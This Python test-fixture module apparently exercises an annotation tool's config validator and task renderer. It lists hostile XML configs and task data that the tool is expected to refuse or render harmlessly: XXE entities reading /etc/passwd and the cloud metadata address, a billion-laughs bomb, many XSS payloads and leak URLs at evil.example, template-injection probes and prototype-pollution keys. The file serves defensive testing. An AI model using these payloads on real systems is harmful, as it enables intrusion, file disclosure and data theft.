"""Configs and task data that mean harm: refused at publish, or shown harmlessly."""

from typing import Any

TEXT = '<Text name="t" value="$text"/>'
CONTROL = '<Choices name="c" toName="t"><Choice value="a"/><Choice value="b"/></Choices>'


def view(*tags: str) -> str:
    """Put tags beside something that works."""
    return f"<View>{TEXT}{CONTROL}{''.join(tags)}</View>"


# Name -> (config, the code of its refusal).
CONFIGS: dict[str, tuple[str, str]] = {
    "a billion laughs": (
        '<!DOCTYPE v [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><View><Header value="&c;"/></View>',
        "unreadable",
    ),
    "one entity that grows": (
        f'<!DOCTYPE v [<!ENTITY a "{"x" * 9000}">]><View>{"&a;" * 9000}</View>',
        "unreadable",
    ),
    "a file of the server": (
        '<!DOCTYPE v [<!ENTITY f SYSTEM "file:///etc/passwd">]><View><Header value="&f;"/></View>',
        "unreadable",
    ),
    "a host of the network": (
        '<!DOCTYPE v [<!ENTITY f SYSTEM "http://169.254.169.254/">]><View>&f;</View>',
        "unreadable",
    ),
    "a definition from elsewhere": (
        f'<!DOCTYPE v SYSTEM "http://evil.example/v.dtd">{view()}',
        "unreadable",
    ),
    "entities of parameters": (
        '<!DOCTYPE v [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><View/>',
        "unreadable",
    ),
    "an entity that is not declared": (view('<Header value="&nbsp;"/>'), "unreadable"),
    "a null byte": (view('<Header value="a\x00b"/>'), "unreadable"),
    "half a sign": (view('<Header value="\ud800"/>'), "unreadable"),
    "a null by number": (view('<Header value="&#0;"/>'), "unreadable"),
    "two roots": (view() + view(), "unreadable"),
    "one attribute twice": (view('<Header value="a" value="b"/>'), "unreadable"),
    "far too deep": ("<View>" * 5000 + "</View>" * 5000, "unreadable"),
    "too many tags": (f"<View>{TEXT}{CONTROL}{'<View/>' * 6000}</View>", "too_many_tags"),
    "too many letters": (view(" " * 100_001), "too_long"),
    "a script": (view("<script>alert(1)</script>"), "unknown_tag"),
    "a script of another space": (
        view('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
        "unknown_tag",
    ),
    "a frame": (view('<iframe src="https://evil.example/"/>'), "unknown_tag"),
    "a drawing": (view('<svg onload="alert(1)"/>'), "unknown_tag"),
    "a refresh": (
        view('<meta http-equiv="refresh" content="0;url=//evil.example"/>'),
        "unknown_tag",
    ),
    "a link to a sheet": (view('<link rel="stylesheet" href="//evil.example"/>'), "unknown_tag"),
    "an object of a page": (view('<object data="data:text/html,x"/>'), "unknown_tag"),
    "a form": (view('<form action="//evil.example"/>'), "unknown_tag"),
    "a copier that explodes": (
        view(
            f'<Repeater on="$items">{"<Repeater on=" + chr(34) + "$items" + chr(34) + ">"}'
            "</Repeater></Repeater>"
        ),
        "unknown_tag",
    ),
    "code of the owner": (view('<ReactCode name="x" toName="t"/>'), "enterprise_tag"),
    "an interface of the owner": (view('<CustomInterface name="x"/>'), "enterprise_tag"),
    "a talk": (view('<Chat name="x" value="$chat"/>'), "enterprise_tag"),
    "a part of a result": (view('<RectangleRegion name="x"/>'), "unknown_tag"),
    "a picture from elsewhere": (
        view('<Image name="i" value="https://evil.example/$text.png"/>'),
        "elsewhere",
    ),
    "a picture without a scheme": (view('<Image name="i" value="//evil.example/x"/>'), "elsewhere"),
    "a picture by script": (view('<Image name="i" value="javascript:alert(1)"/>'), "elsewhere"),
    "a picture that is a page": (
        view('<Image name="i" value="data:text/html,&lt;script&gt;"/>'),
        "elsewhere",
    ),
    "a sound of the server": (view('<Audio name="i" value="file:///etc/passwd"/>'), "elsewhere"),
    "a document from elsewhere": (
        view('<Pdf name="i" value=" HTTPS://evil.example"/>'),
        "elsewhere",
    ),
    "a film from elsewhere": (view('<Video name="i" value="ftp://evil.example"/>'), "elsewhere"),
    "options from elsewhere": (
        view('<Taxonomy name="x" toName="t" apiUrl="https://evil.example"/>'),
        "api_url",
    ),
    "a style that asks": (
        view("<Style>.x{background:url(https://evil.example/?leak)}</Style>"),
        "style_reaches",
    ),
    "a style that brings": (view("<Style>@import '//evil.example'</Style>"), "style_reaches"),
    "a look that asks": (
        view('<View style="background: URL (//evil.example)"/>'),
        "style_reaches",
    ),
    "a name of everything": (view('<Number name="__proto__" toName="t"/>'), "bad_name"),
    "a name of its maker": (view('<Number name="constructor" toName="t"/>'), "bad_name"),
    "a name with marks": (view('<Number name="&lt;img src=x&gt;" toName="t"/>'), "bad_name"),
    "a name that is a list": (view('<Number name="a,t" toName="t"/>'), "bad_name"),
    "a name turned round": (view('<Number name="a\u202eb" toName="t"/>'), "bad_name"),
    "a name too long": (view(f'<Number name="{"n" * 101}" toName="t"/>'), "bad_name"),
    "a name twice": (view(CONTROL), "repeated_name"),
    "two options that look alike": (
        view(
            '<Choices name="x" toName="t"><Choice value="ab"/><Choice value="a\u200bb"/></Choices>'
        ),
        "alike",
    ),
    "an option with hidden signs": (
        view('<Choices name="x" toName="t"><Choice value="\u202eyes"/></Choices>'),
        "hidden_signs",
    ),
    "wide letters for an option": (
        view('<Choices name="x" toName="t"><Choice value="A"/><Choice value="\uff21"/></Choices>'),
        "alike",
    ),
    "a million stars": (view('<Rating name="x" toName="t" maxRating="1000000"/>'), "bad_number"),
    "stars that are no number": (
        view('<Rating name="x" toName="t" maxRating="NaN"/>'),
        "bad_number",
    ),
    "an endless number": (view('<Number name="x" toName="t" max="Infinity"/>'), "bad_number"),
    "a number out of nothing": (
        view('<Number name="x" toName="t" min="5" max="1"/>'),
        "bad_number",
    ),
    "rows to the moon": (view('<TextArea name="x" toName="t" rows="99999999"/>'), "bad_number"),
    "one key for two": (
        view(
            '<Choices name="x" toName="t"><Choice value="a" hotkey="q"/>'
            '<Choice value="b" hotkey="Q"/></Choices>'
        ),
        "repeated_key",
    ),
    "what waits for itself": (
        view(
            '<Choices name="x" toName="t" required="true" visibleWhen="choice-selected"'
            ' whenTagName="x"><Choice value="a"/></Choices>'
        ),
        "waits_for_itself",
    ),
    "two that wait for each other": (
        view(
            '<Choices name="x" toName="t" visibleWhen="choice-selected" whenTagName="y">'
            '<Choice value="a"/></Choices>'
            '<View visibleWhen="choice-unselected" whenTagName="x">'
            '<Choices name="y" toName="t"><Choice value="a"/></Choices></View>'
        ),
        "waits_for_itself",
    ),
    "what waits for nothing": (
        view('<Number name="x" toName="t" visibleWhen="choice-selected" whenTagName="gone"/>'),
        "unknown_when",
    ),
    "a control of nothing": (view('<Number name="x" toName="gone"/>'), "unknown_to_name"),
    "a control of itself": (view('<Number name="x" toName="x"/>'), "unknown_to_name"),
    "boxes on a text": (
        view('<RectangleLabels name="x" toName="t"><Label value="a"/></RectangleLabels>'),
        "does_not_fit",
    ),
    "a ranking of a text": (view('<Ranker name="x" toName="t"/>'), "does_not_fit"),
    "a comparison with itself": (view('<Pairwise name="x" toName="t,t"/>'), "not_a_pair"),
    "a comparison of one": (view('<Pairwise name="x" toName="t"/>'), "not_a_pair"),
}

# Each would leave a trace in the page around, or in the frame, if it ran or reached out.
DO = "window.pwned=1;parent.postMessage({doyen:'pwned'},'*');top.document.title='pwned'"
OUT = "https://evil.example/leak"
PIECES: dict[str, str] = {
    "an image": f'<img src=x onerror="{DO}">',
    "an image from elsewhere": f'<img src="{OUT}.png" srcset="{OUT} 2x">',
    "a script": f"<script>{DO}</script>",
    "a script from elsewhere": f'<script src="{OUT}.js"></script>',
    "a module": f'<script type="module">import "{OUT}.mjs"</script>',
    "a drawing": f'<svg onload="{DO}"><script>{DO}</script></svg>',
    "a drawing that moves": f'<svg><animate onbegin="{DO}" attributeName=x dur=1s></svg>',
    "a drawing of another": f'<svg><use href="{OUT}.svg#x"/><image href="{OUT}.png"/></svg>',
    "formulas": f'<math><mtext><img src=x onerror="{DO}"></mtext></math>',
    "a frame": f'<iframe srcdoc="<script>{DO}</script>"></iframe>',
    "a frame from elsewhere": f'<iframe src="{OUT}"></iframe><embed src="{OUT}">',
    "an object": f'<object data="data:text/html,<script>{DO}</script>"></object>',
    "a link": f'<a href="javascript:{DO}">grant</a>',
    "a link to elsewhere": f'<a href="{OUT}" target="_top" ping="{OUT}">patent</a>',
    "a base": '<base href="https://evil.example/">',
    "a refresh": f'<meta http-equiv="refresh" content="0;url={OUT}">',
    "a form": f'<form action="{OUT}"><input autofocus onfocus="{DO}"><button>Go</button></form>',
    "a sheet": f'<link rel="stylesheet" href="{OUT}.css"><link rel="preload" href="{OUT}">',
    "a style that asks": f"<style>@import '{OUT}.css';*{{background:url({OUT})}}</style>",
    "a look that asks": f'<p style="background:url({OUT});list-style:url({OUT})">x</p>',
    "letters from elsewhere": f"<style>@font-face{{font-family:e;src:url({OUT}.woff)}}</style>",
    "a fold": f'<details open ontoggle="{DO}"><summary>x</summary></details>',
    "a film": f'<video src="{OUT}.mp4" poster="{OUT}.png" autoplay onerror="{DO}"></video>',
    "a sound": f'<audio src="{OUT}.mp3" autoplay></audio>',
    "a running text": f'<marquee onstart="{DO}">x</marquee>',
    "an end of the page": f"</script></div></body></html><script>{DO}</script><!--",
    "a mark of templates": "{{7*7}} ${7*7} <%= 7*7 %> {{constructor.constructor('x')()}}",
    "a hidden layer": '<div style="position:fixed;inset:0;z-index:99999;opacity:0">x</div>',
    "a direction": "\u202egnp.exe\u202c \u2066x",
    "a prototype": '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
}
WHOLE = "Clause. " + " ".join(PIECES.values())

# Ways in which a task's words are drawn, each with all of the pieces at once.
SHOWN: dict[str, tuple[str, dict[str, Any]]] = {
    "text, header and options": (
        '<View><Text name="t" value="$text"/><Header value="$text"/><Markdown value="$text"/>'
        '<Choices name="c" toName="t" value="$options"/></View>',
        {
            "text": WHOLE,
            "options": [
                {"value": "a", "html": WHOLE, "hint": WHOLE},
                {"value": WHOLE[:300]},
                {"value": "__proto__"},
            ],
        },
    ),
    "hypertext": (
        '<View><HyperText name="t" value="$text"/><Choices name="c" toName="t">'
        '<Choice value="a"/><Choice value="b"/></Choices></View>',
        {"text": WHOLE},
    ),
    "a list, a talk and a table": (
        '<View><Paragraphs name="t" value="$talk" layout="dialogue" nameKey="author"/>'
        '<List name="l" value="$items" title="R"/><Ranker name="r" toName="l"/>'
        '<Table name="f" value="$facts"/><Choices name="c" toName="t"><Choice value="a"/>'
        "</Choices></View>",
        {
            "talk": [{"author": WHOLE, "text": WHOLE}],
            "items": [
                {"id": "__proto__", "title": "x", "html": WHOLE},
                {"id": "b", "title": WHOLE, "body": WHOLE},
            ],
            "facts": {"__proto__": WHOLE, WHOLE[:80]: WHOLE, "constructor": {"a": WHOLE}},
        },
    ),
    "media from elsewhere": (
        '<View><Image name="t" value="$image"/><Image name="i" valueList="$images"/>'
        '<Video name="v" value="$video"/><Pdf name="p" value="$pdf"/>'
        '<Choices name="c" toName="t"><Choice value="a"/></Choices></View>',
        {
            "image": f"{OUT}.png",
            "images": [f"{OUT}.jpg", "javascript:alert(1)", "data:text/html,<script>1</script>"],
            "video": f"{OUT}.mp4",
            "pdf": f"{OUT}.pdf",
        },
    ),
}
